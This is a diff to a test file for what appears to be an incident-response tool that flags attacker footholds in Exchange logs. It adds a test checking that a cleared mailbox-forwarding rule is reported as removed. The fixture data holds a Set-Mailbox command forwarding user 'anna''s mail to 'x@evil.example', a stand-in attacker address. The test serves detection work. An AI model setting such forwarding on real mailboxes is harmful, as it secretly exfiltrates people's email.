@@ -80,6 +80,24 @@ def test_a_rule_that_was_removed_is_told_with_who_removed_it(tmp_path: Path) -> 
     assert otto.state is FootholdState.UNKNOWN
 
 
+def test_what_the_admin_audit_log_says_was_cleared_is_told_as_removed(tmp_path: Path) -> None:
+    text = '-Identity "anna" -ForwardingSmtpAddress "smtp:x@evil.example"'.replace('"', "&quot;")
+    cmdlet = {"number": 1, "event": 1, "at": "2021-03-03 02:00:00", "provider": "MSExchange CmdletLogs"}
+    body = f"<EventData><Data>Set-Mailbox</Data><Data>{text}</Data><Data>gov/admin</Data></EventData>"
+    log = security_log([cmdlet | {"user_data": body}], channel="MSExchange Management")
+    cleared = (
+        "<?xml version='1.0' encoding='utf-8'?>\r\n<SearchResults>"
+        '<Event Caller="gov.example/Users/adm" Cmdlet="Set-Mailbox" ObjectModified="gov.example/Users/anna" '
+        'RunDate="2021-03-06T09:00:00+01:00" Succeeded="true" Error="None" OriginatingServer="EX01 (15.01.2176.002)">'
+        '<CmdletParameters><Parameter Name="Identity" Value="anna" /><Parameter Name="ForwardingSmtpAddress" Value="" />'
+        "</CmdletParameters></Event></SearchResults>"
+    )
+    (told,) = _footholds(tmp_path, {"EX01/management.xml": log, "SearchResult.xml": cleared})
+    assert told.state is FootholdState.REMOVED
+    assert told.state_why.startswith("taken away at 2021-03-06 08:00:00 UTC: Set-Mailbox")
+    assert [ref.table for ref in told.grounds] == ["evtx", "admin_audit"]
+
+
 def test_a_record_that_was_exported_twice_is_not_told_twice(tmp_path: Path) -> None:
     there = _record("2021-03-01T08:00:00", "Set-Mailbox", "anna", ForwardingSmtpAddress="smtp:x@evil.example")
     gone = _record("2021-03-05T08:00:00", "Set-Mailbox", "anna", ForwardingSmtpAddress="")
